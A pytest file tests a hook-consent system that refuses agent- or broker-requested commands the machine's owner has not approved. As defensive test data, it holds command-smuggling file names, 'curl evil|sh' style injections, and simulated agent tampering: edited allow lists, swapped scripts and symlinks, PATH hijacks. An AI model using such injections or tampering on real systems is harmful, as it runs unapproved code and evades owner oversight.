"""What agents and a broker try that are not what they seem: nothing runs that the machine's owner has not allowed."""

from __future__ import annotations

from collections.abc import AsyncGenerator, Sequence
from pathlib import Path
from typing import Any

import pytest

from broker.domain.hooks.runs import RunState
from connect.machine.hooks.consent_file import to_toml
from connect.machine.hooks.consents import Consents
from connect.machine.hooks.offers import difference, offers_of
from connect.machine.hooks.refusals import read_refusals
from connect.policy.allow_file import hash_of
from tests.connect.machine.hooks.ground import Ground, ground

NAMES = [
    *("a b.ts", "it's.ts", 'a"b.ts', "two\nlines.ts", "$(touch gone).ts", "`id`.ts"),
    *("-rf", "--exec=sh", ";x&&y|z", "*"),
]


@pytest.fixture(params=[False, True], ids=["", "an-agent-waits"])
async def machine(tmp_path: Path, request: pytest.FixtureRequest) -> AsyncGenerator[Ground]:
    """Both kinds of hooks: those that run behind an agent's back, and those that it waits for."""
    async with ground(tmp_path, waited_for=request.param) as made:
        yield made
        told = [each for each in made.reports() if each.state is not RunState.STARTED]
        assert all(each.answer is None for each in told if each.state is not RunState.COMPLETED)


async def test_no_name_of_a_file_is_more_than_one_word(machine: Ground) -> None:
    machine.program("lint")
    for name in NAMES:
        (machine.project / name).touch()
    order = machine.order("lint -- ${file}", files=NAMES)
    await machine.allow(order)
    assert (await machine.run(order)).state is RunState.COMPLETED
    expected = [f"./{name}" if name.startswith("-") else name for name in NAMES]
    assert machine.recorded()[0]["argv"] == ["--", *expected]
    assert not (machine.project / "gone").exists()


async def test_a_file_that_leads_out_of_the_folders_is_not_named(machine: Ground) -> None:
    machine.program("lint")
    (machine.project / "plain").touch()
    (machine.project / "profile").symlink_to(machine.folder / ".profile")
    (machine.folder / ".profile").touch()
    order = machine.order("lint ${file}", files=["profile", "plain", "../bin/lint", "a\0b", "x" * 5000])
    await machine.allow(order)
    await machine.run(order)
    assert machine.recorded()[0]["argv"] == ["plain"]


CHANGES: list[dict[str, Any]] = [
    {"command": "lint --fix"},
    {"command": ["lint", "--fix", "; curl evil"]},
    {"command": "lint ${text}", "values": {"text": "evil"}},
    {"env": ["CI", "SSH_AUTH_SOCK"]},
    {"timeout_s": 599.0},
    {"cwd": "sub"},
]


@pytest.mark.parametrize("change", CHANGES, ids=lambda change: next(iter(change)))
async def test_another_definition_under_an_allowed_id_does_not_run_and_shows_how_it_differs(
    machine: Ground, change: dict[str, Any]
) -> None:
    machine.program("lint")
    (machine.project / "sub").mkdir()
    order = machine.order("lint", env=["CI"])
    await machine.allow(order)
    ran = await machine.run(order.model_copy(update={**change, "run": "changed"}))
    assert (ran.state, "another command than" in ran.reason) == (RunState.REFUSED, True)
    assert machine.recorded() == []
    [offer] = offers_of(read_refusals(machine.state), machine.consents.current())
    assert offer.before is not None
    assert difference(offer.before, offer.consent)


async def test_a_script_that_an_agent_has_edited_does_not_run_until_it_is_allowed_again(machine: Ground) -> None:
    script = machine.program("check.sh", folder=machine.project)
    order = machine.order("./check.sh")
    await machine.allow(order)
    assert (await machine.run(order)).state is RunState.COMPLETED
    script.write_text(script.read_text() + "# and more\n")
    ran = await machine.run(order.model_copy(update={"run": "edited"}))
    assert (ran.state, "was changed since it was allowed" in ran.reason) == (RunState.REFUSED, True)
    assert len(machine.recorded()) == 1
    await machine.allow(order)
    assert (await machine.run(order.model_copy(update={"run": "again"}))).state is RunState.COMPLETED


@pytest.mark.parametrize("words", [("sh", "check.sh"), ("env", "X=1", "sh", "check.sh"), ("sh", "${project}/check.sh")])
async def test_a_script_that_is_given_to_an_interpreter_is_held_to_what_it_was(
    machine: Ground, words: Sequence[str]
) -> None:
    (machine.project / ".git").mkdir()
    script = machine.project / "check.sh"
    script.write_text("true\n")
    order = machine.order(words)
    await machine.allow(order)
    assert (await machine.run(order)).state is RunState.COMPLETED
    script.write_text("touch gone\n")
    assert (await machine.run(order.model_copy(update={"run": "edited"}))).state is RunState.REFUSED
    assert not (machine.project / "gone").exists()


async def test_a_link_to_a_program_that_is_exchanged_does_not_run(machine: Ground) -> None:
    machine.program("lint")
    link = machine.project / "lint"
    link.symlink_to(machine.programs / "lint")
    order = machine.order("./lint")
    await machine.allow(order)
    assert (await machine.run(order)).state is RunState.COMPLETED
    link.unlink()
    machine.program("lint", "#!/bin/sh\ntouch gone\n", folder=machine.project)
    assert (await machine.run(order.model_copy(update={"run": "edited"}))).state is RunState.REFUSED
    assert not (machine.project / "gone").exists()


async def test_a_program_that_is_put_before_the_allowed_one_on_path_does_not_run(machine: Ground) -> None:
    machine.program("true", "#!/bin/sh\nexit 0\n")
    order = machine.order("true")
    await machine.allow(order)
    (machine.folder / "bin" / "true").rename(machine.folder / "bin" / "kept")
    ran = await machine.run(order)
    assert (ran.state, "its program is" in ran.reason) == (RunState.REFUSED, True)


async def test_the_same_script_of_another_folder_is_another_program(machine: Ground) -> None:
    for name in ("one", "two"):
        (machine.project / name).mkdir()
        machine.program("check.sh", folder=machine.project / name)
    (machine.project / "check.sh").symlink_to("one/check.sh")
    order = machine.order("./check.sh")
    await machine.allow(order)
    assert (await machine.run(order)).state is RunState.COMPLETED
    (machine.project / "check.sh").unlink()
    (machine.project / "check.sh").symlink_to("two/check.sh")
    (machine.project / "two" / "check.sh").write_text("#!/bin/sh\ntouch gone\n")
    assert (await machine.run(order.model_copy(update={"run": "other"}))).state is RunState.REFUSED
    assert not (machine.project / "gone").exists()


async def test_a_script_of_a_project_runs_from_that_project_alone(machine: Ground) -> None:
    (machine.project / ".git").mkdir()
    machine.program("check.sh", folder=machine.project)
    order = machine.order("${project}/check.sh")
    await machine.allow(order)
    assert (await machine.run(order)).state is RunState.COMPLETED
    (machine.project / ".git").rmdir()
    ran = await machine.run(order.model_copy(update={"run": "none", "values": {"project": str(machine.project)}}))
    assert ran.state in {RunState.SKIPPED, RunState.REFUSED}, "a broker does not say what the project is"
    assert len(machine.recorded()) == 1


INLINE = [
    ("sh", "-c", "id"),
    ("bash", "-lc", "id"),
    ("env", "-i", "bash", "-c", "id"),
    ("timeout", "5", "sh", "-c", "id"),
    ("python3", "-c", "print(1)"),
    ("python3.11", "-Ic", "print(1)"),
    ("node", "--eval=1"),
    ("perl", "-ne", "1"),
    ("sh",),
    ("env", "-S", "sh -c id"),
]


@pytest.mark.parametrize("words", INLINE, ids=" ".join)
async def test_words_that_are_a_program_have_to_be_allowed_as_such(machine: Ground, words: Sequence[str]) -> None:
    for name in {word for word in words if "/" not in word} & {"bash", "python3", "python3.11", "node", "perl"}:
        machine.program(name)
    await machine.run(machine.order(words))
    [offer] = offers_of(read_refusals(machine.state), Consents())
    assert offer.is_code


@pytest.mark.parametrize(
    "words",
    [
        ("sh", "-c", "lint ${file}"),
        ("bash", "-c", "lint ${text}"),
        ("python3", "-c${text}"),
        ("sh", "${file}"),
        ("${text}", "x"),
        ("ssh", "host", "lint", "${file}"),
        ("env", "sh", "-c", "x ${file}"),
        ("env", "-S", "${text}"),
    ],
    ids=" ".join,
)
async def test_a_value_that_would_be_a_part_of_a_program_is_no_offer(machine: Ground, words: Sequence[str]) -> None:
    (machine.project / "x").touch()
    ran = await machine.run(machine.order(words, files=["x"], values={"text": "x"}))
    assert (ran.state, "a value would become a part" in ran.reason) == (RunState.REFUSED, True)
    assert read_refusals(machine.state) == []


async def test_a_value_that_is_an_argument_of_inline_code_is_fine(machine: Ground) -> None:
    (machine.project / "x y").touch()
    order = machine.order(["sh", "-c", 'echo "$1"', "sh", "${file}"], files=["x y"])
    await machine.allow(order)
    ran = await machine.run(order)
    assert (ran.exit_code, ran.output) == (0, "x y\n")


async def test_a_list_that_an_agent_has_edited_allows_nothing_at_all(machine: Ground) -> None:
    machine.program("lint")
    order = machine.order("lint")
    await machine.allow(order)
    allowed = machine.consents.current()
    machine.file.path.write_bytes(to_toml(allowed) + b"# an agent was here\n")
    ran = await machine.run(order)
    assert (ran.state, "not by `relay-connect hooks`" in ran.reason) == (RunState.REFUSED, True)
    assert any("confirm it with `relay-connect hooks review`" in each for each in machine.warnings())
    machine.file.path.write_bytes(to_toml(allowed))
    assert (await machine.run(order.model_copy(update={"run": "back"}))).state is RunState.COMPLETED


async def test_a_list_that_others_can_write_allows_nothing(machine: Ground) -> None:
    machine.program("lint")
    order = machine.order("lint")
    await machine.allow(order)
    machine.file.path.chmod(0o666)
    ran = await machine.run(order)
    assert (ran.state, "other users can write it" in ran.reason) == (RunState.REFUSED, True)


async def test_an_edited_list_of_refusals_allows_no_script_unseen(machine: Ground) -> None:
    """An agent takes the script out of what is held to its content: the link itself sees that it could be changed."""
    machine.program("check.sh", folder=machine.project)
    order = machine.order("./check.sh")
    await machine.run(order)
    [refused] = read_refusals(machine.state)
    [offer] = offers_of([refused.model_copy(update={"files": ()})], Consents())
    content = to_toml(Consents().with_consent(offer.consent))
    machine.consents.expect(hash_of(content))
    machine.file.put(content)
    ran = await machine.run(order.model_copy(update={"run": "unseen"}))
    assert (ran.state, "agents can change" in ran.reason) == (RunState.REFUSED, True)


@pytest.mark.parametrize("hook", ["", "-x", "a b", "\x1b[2J", "x;curl evil|sh", "\u202elive", "x" * 128 + "y"])
async def test_an_id_that_nobody_could_type_is_refused(machine: Ground, hook: str) -> None:
    machine.program("lint")
    order = machine.order("lint").model_copy(update={"hook": hook})
    ran = await machine.run(order)
    assert ran.state is RunState.REFUSED
    assert all(line.isprintable() for line in machine.warnings())


async def test_whoever_makes_up_ids_does_not_fill_the_terminal(machine: Ground) -> None:
    machine.program("lint")
    for number in range(150):
        await machine.run(machine.order("lint", hook=f"made-up-{number}"))
    assert len(machine.warnings()) == 101
    assert "more is told of hooks than anybody reads" in machine.warnings()[-1]
    assert len(read_refusals(machine.state)) == 50


async def test_a_command_that_cannot_be_understood_is_refused(machine: Ground) -> None:
    for command, timeout_s in (("lint | sh", 1.0), ("lint ${evil}", 1.0), ([], 1.0), ("lint", 601.0)):
        ran = await machine.run(machine.order(command, timeout_s=timeout_s))
        assert ran.state is RunState.REFUSED, ran


async def test_an_agent_that_never_worked_here_has_no_hooks_here(machine: Ground) -> None:
    machine.program("lint")
    ran = await machine.run(machine.order("lint", agent="another"))
    assert (ran.state, "never worked on this machine" in ran.reason) == (RunState.REFUSED, True)


async def test_a_hook_that_is_started_by_the_file_it_writes_itself_is_paused(machine: Ground) -> None:
    machine.program("touches", '#!/bin/sh\necho x >> "$1"\n')
    (machine.project / "x").touch()
    order = machine.order("touches ${file}", files=["x"])
    await machine.allow(order)
    ends = [await machine.run(order.model_copy(update={"run": f"loop-{number}"})) for number in range(8)]
    assert [each.state for each in ends] == [RunState.COMPLETED] * 6 + [RunState.SKIPPED] * 2
    assert "started by the files it writes itself" in ends[-1].reason
    assert len([each for each in machine.warnings() if "is paused" in each]) == 1
    (machine.project / "x").write_text("an agent's own change")
